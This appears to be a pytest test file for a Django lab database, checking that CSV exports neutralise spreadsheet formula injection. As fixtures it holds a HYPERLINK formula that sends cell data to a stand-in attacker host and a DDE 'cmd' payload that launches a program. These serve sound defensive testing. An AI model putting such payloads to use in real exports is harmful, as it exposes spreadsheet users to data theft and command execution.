"""CSV exports neutralise formula injection (OWASP "CSV injection"): a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'``, so
a spreadsheet shows it as text instead of evaluating it; numbers are written unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from labdb import models as m
from labdb.exports.spreadsheet import neutralise
from tests.labdb.api.conftest import token_client

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Mg-E-HC1", "Mg-E-HC1"),
        ("-0.25", "-0.25"),  # a plain number stays a number
        ("1e-3", "1e-3"),
        (-0.25, -0.25),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise(value: Any, written: Any) -> None:
    assert neutralise(value) == written


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.fixture
def evil_cell(demo: m.Project) -> m.Cell:
    cell = m.Cell.objects.get(label="MgAgSn-E-HC1")
    m.Cell.objects.filter(pk=cell.pk).update(label=EVIL, notes="@cmd")
    cell.refresh_from_db()
    return cell


def test_api_csv_table_of_results(demo_user: Any, cycling: Any) -> None:
    m.TestRun.objects.filter(pk=cycling.test_run.pk).update(label=EVIL)
    r = token_client(demo_user, "read").get("/api/v1/results/?format=csv")
    assert r.status_code == 200, r.content[:300]
    table = rows(r.content)
    # the run's cycling result and the dQ/dV result that follows it: both name the run
    runs = {row[table[0].index("kind")]: row[table[0].index("test_run")] for row in table[1:]}
    assert runs == {"cycling": "'" + EVIL, "dqdv": "'" + EVIL} and len(table) == 3
    assert not any(c.startswith(("=", "+", "@")) for row in table for c in row)


def test_history_csv_of_a_record(client_demo: Client, evil_cell: m.Cell) -> None:
    """A user name may start with + - @ (Django allows them): it is written as text."""
    from django.contrib.auth import get_user_model

    from labdb.services.catalog import record_save

    editor = get_user_model().objects.create_user("-2+3+cmd", password="pw-editor-123")
    evil_cell.notes = "=1+1"
    record_save(record=evil_cell, user=editor)
    r = client_demo.get(f"/cells/{evil_cell.pk}/history.csv")
    assert r.status_code == 200
    table = rows(r.content)
    assert "'-2+3+cmd" in [row[1] for row in table]
    assert not any(c.startswith(("=", "+", "-", "@")) for row in table for c in row)


def test_plot_csv_series_names(client_demo: Client, cycling: Any) -> None:
    cell = cycling.test_run.cell
    m.TestRun.objects.filter(pk=cycling.test_run.pk).update(label=EVIL)
    r = client_demo.get(f"/cells/{cell.pk}/plots/ce.csv")
    assert r.status_code == 200, r.content[:300]
    table = rows(r.content)
    assert len(table) > 1
    assert not any(c.startswith(("=", "+", "@")) for row in table for c in row)
